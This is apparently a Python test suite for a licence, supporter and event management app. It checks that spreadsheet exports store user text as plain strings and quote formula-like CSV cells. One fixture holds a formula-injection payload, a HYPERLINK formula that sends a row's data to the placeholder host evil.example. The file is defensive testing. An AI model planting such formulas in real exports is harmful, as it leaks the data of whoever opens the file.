"""Exports never turn text into formulas: in every .xlsx the app writes, text is a string
cell (never a formula); in every .csv, a cell a spreadsheet program would read as a
formula (``=``, ``+``, ``-``, ``@``, tab, carriage return) starts with a single quote;
and importing such an export gives the original text back."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from app.models import Event, Licence, Person, Supporter
from app.services.core.db import Database, open_database
from app.services.events import io as event_io
from app.services.licences import io as spreadsheet
from app.services.sheet_kinds import SHEET_KINDS
from app.services.spreadsheet import sheetfile
from app.services.spreadsheet.sheetfile import CSV_FORMULA_STARTS, csv_guard, csv_unguard
from app.services.supporters import io as supporter_io
from tests.accounts_support import act_as
from tests.services.conftest import setup_tehran_office, template_row
from tests.services.events import test_event_io
from tests.services.supporter_fixtures import issue
from tests.services.supporters import test_supporter_io

#: The issue's example: a link that sends the row's data elsewhere when clicked.
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def _licence_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([c.header for c in spreadsheet.COLUMNS])
        writer.writerows(rows)
    return path


def _xlsx_cells(path: Path, header: str) -> list[Any]:
    """The cells (objects) of one column of the first sheet, below its header."""
    sheet = openpyxl.load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows())
    index = [cell.value for cell in rows[0]].index(header)
    return [row[index] for row in rows[1:]]


def _no_formula_in(path: Path) -> None:
    """No sheet of the workbook holds a formula element at all."""
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                xml = book.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name


def _csv_column(path: Path, header: str) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def _assert_guarded(path: Path, header: str, texts: list[str]) -> None:
    """In the export, the column holds ``texts`` as text: string cells in an .xlsx, and
    behind a single quote in a .csv."""
    if path.suffix == ".xlsx":
        cells = _xlsx_cells(path, header)
        assert [c.value for c in cells] == texts
        assert all(c.data_type == "s" for c in cells)
        _no_formula_in(path)
    else:
        assert _csv_column(path, header) == ["'" + text for text in texts]


def _empty_office(tmp_path: Path) -> Database:
    database = act_as(open_database(tmp_path / "empty.sqlite3"))
    setup_tehran_office(database, prefix="9999")
    return database


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_licence_export_keeps_formulas_as_text(db: Database, tmp_path: Path, suffix: str) -> None:
    source = _licence_csv(
        tmp_path / "in.csv",
        [template_row(**{"نشانی": EVIL, "نشانی محل فعالیت": "-2+3 خیابان آزادی"})],
    )
    with db.session() as s:
        assert spreadsheet.import_file(s, source).imported == 1
        assert s.scalar(select(Person.address)) == EVIL
        out = tmp_path / f"export{suffix}"
        assert spreadsheet.export_file(s, out) == 1
    _assert_guarded(out, "نشانی", [EVIL])
    _assert_guarded(out, "نشانی محل فعالیت", ["-2+3 خیابان آزادی"])
    empty = _empty_office(tmp_path)
    try:
        with empty.session() as s:
            result = spreadsheet.import_file(s, out)
            assert (result.imported, result.rejected) == (1, 0), result.problems
            assert s.scalar(select(Person.address)) == EVIL
            assert s.scalar(select(Licence.activity_address)) == "-2+3 خیابان آزادی"
    finally:
        empty.close()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_supporter_export_keeps_formulas_as_text(db: Database, tmp_path: Path, suffix: str) -> None:
    licence = issue(db, "0067749828")
    source = test_supporter_io.write_csv(
        tmp_path / "in.csv",
        [
            test_supporter_io.row(
                **{
                    "شماره مجوز پشتیبان": licence.number,
                    "نشانی پشتیبان": EVIL,
                    "نام شخص حقوقی": "@SUM(A1) تعاونی",
                }
            )
        ],
    )
    with db.session() as s:
        result = supporter_io.import_file(s, source)
        assert result.imported == 1, result.problems
        out = tmp_path / f"supporters{suffix}"
        assert supporter_io.export_file(s, out) == 1
    _assert_guarded(out, "نشانی پشتیبان", [EVIL])
    _assert_guarded(out, "نام شخص حقوقی", ["@SUM(A1) تعاونی"])
    empty = _empty_office(tmp_path)
    try:
        with empty.session() as s:
            result = supporter_io.import_file(s, out)
            assert (result.imported, result.rejected) == (1, 0), result.problems
            supporter = s.scalars(select(Supporter)).one()
            assert (supporter.address, supporter.legal_name) == (EVIL, "@SUM(A1) تعاونی")
    finally:
        empty.close()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_event_export_keeps_formulas_as_text(db: Database, tmp_path: Path, suffix: str) -> None:
    source = test_event_io.write_csv(
        tmp_path / "in.csv",
        [test_event_io.row(**{"محل برگزاری": EVIL, "عنوان": "+98 بازارچه"})],
    )
    with db.session() as s:
        result = event_io.import_file(s, source)
        assert result.imported == 1, result.problems
        out = tmp_path / f"events{suffix}"
        assert event_io.export_file(s, out) == 1
    _assert_guarded(out, "محل برگزاری", [EVIL])
    _assert_guarded(out, "عنوان", ["+98 بازارچه"])
    empty = _empty_office(tmp_path)
    try:
        with empty.session() as s:
            result = event_io.import_file(s, out)
            assert (result.imported, result.rejected) == (1, 0), result.problems
            event = s.scalars(select(Event)).one()
            assert (event.venue, event.title) == (EVIL, "+98 بازارچه")
    finally:
        empty.close()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_import_report_keeps_formulas_as_text(db: Database, tmp_path: Path, suffix: str) -> None:
    # Rejected (no such field): the report repeats the row's cells, the address too.
    source = _licence_csv(
        tmp_path / "in.csv", [template_row(**{"نشانی": EVIL, "کد رشته": "999999"})]
    )
    with db.session() as s:
        result = spreadsheet.import_file(s, source)
    assert result.rejected == 1
    report = spreadsheet.write_report(result, tmp_path / f"report{suffix}")
    _assert_guarded(report, "نشانی", [EVIL])


def test_templates_hold_text_only(tmp_path: Path) -> None:
    assert {"licences", "supporters", "events"} <= set(SHEET_KINDS)
    for kind in SHEET_KINDS.values():
        path = kind.write_template(tmp_path / f"{kind.name}.xlsx")
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                assert all(c.data_type == "s" for c in row if c.value is not None)
        _no_formula_in(path)


def test_every_formula_start_is_guarded_and_read_back(tmp_path: Path) -> None:
    texts = [
        EVIL,
        "+989121234567",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted",
        "'plain quote",
        "ordinary text",
        "",
    ]
    path = tmp_path / "all.csv"
    rows_written = [[str(n), text, "ردیف"] for n, text in enumerate(texts)]
    sheetfile.write_rows(path, ["شماره", "متن", "توضیح"], rows_written, "برگه")
    written = _csv_column(path, "متن")
    for text, cell in zip(texts, written, strict=True):
        assert not cell.startswith(CSV_FORMULA_STARTS), cell
        starts_like_a_formula = text.startswith((*CSV_FORMULA_STARTS, "'"))
        assert cell == ("'" + text if starts_like_a_formula else text)
    rows = list(sheetfile.read_rows(path))
    assert rows[1:] == rows_written


@given(st.text())
def test_csv_guard_is_undone_exactly(text: str) -> None:
    guarded = csv_guard(text)
    assert not guarded.startswith(CSV_FORMULA_STARTS)
    assert csv_unguard(guarded) == text


def test_numbers_are_not_quoted() -> None:
    assert csv_guard(-5) == -5 and csv_guard(3.5) == 3.5 and csv_guard(None) is None
